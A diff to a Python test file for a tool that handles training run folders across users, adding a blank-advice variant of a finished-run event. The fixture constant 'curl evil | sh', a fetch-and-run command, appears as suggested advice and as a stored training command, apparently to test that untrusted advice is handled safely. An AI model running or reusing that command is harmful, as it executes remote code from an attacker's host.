@@ -32,6 +32,8 @@ Tree = dict[str, tuple[int, int, int, int]]
 ADVICE = "curl evil | sh"
 OLD, NEW = "20260101-000000", "20260102-000000"
 FINISHED = e.RunFinished(t=9.0, outcome="failed", exit_code=1, reason="a reason", next=f"Type: {ADVICE}")
+ENDED = e.RunFinished(t=9.0, outcome="failed", exit_code=1, reason="a reason", next="")
+"""Of one's own run."""
 TOLD = e.Notice(t=8.0, level="error", text="told", hint=f"Type: {ADVICE}")
 
 
@@ -66,14 +68,16 @@ def other(user: int, work: Callable[[], None]) -> Iterator[None]:
         os.waitpid(child, 0)
 
 
-def lay_run(path: Path, mode: int, *events: e.AnyEvent, recipe: str, job: str = "train") -> RunFolder:
+def lay_run(
+    path: Path, mode: int, *events: e.AnyEvent, recipe: str, job: str = "train", advice: str = ADVICE
+) -> RunFolder:
     path.mkdir()
     folder = RunFolder(path)
     folder.events.write_bytes(b"".join(map(e.encode, events)))
     settings = f'[model]\nkind = "python"\nrecipe = "{recipe}:build"\n'
     folder.config.write_text(settings)
     (path / "train.toml").write_text(settings)
-    order = {"job": job, "started_at": 0.0, "train_command": ["sh", "-c", ADVICE]}
+    order = {"job": job, "started_at": 0.0, "train_command": ["sh", "-c", advice]}
     folder.order.write_text(json.dumps(order))
     (path / "model").mkdir()
     path.chmod(mode)
@@ -260,7 +264,7 @@ def walk(folder: Path) -> dict[str, Any]:
         become(ME)
         (home / "bashrc").write_text("mine")
         log = (started("train"), training(), step(1))
-        own = lay_run(shared / "runs" / f"{OLD}-train-0000", 0o700, *log, FINISHED, recipe="/nowhere.py")
+        own = lay_run(shared / "runs" / f"{OLD}-train-0000", 0o700, *log, ENDED, recipe="/nowhere.py", advice="")
         for path in own.path.iterdir():
             path.chmod(0o700 if path.is_dir() else 0o600)
         before = tree(shared)
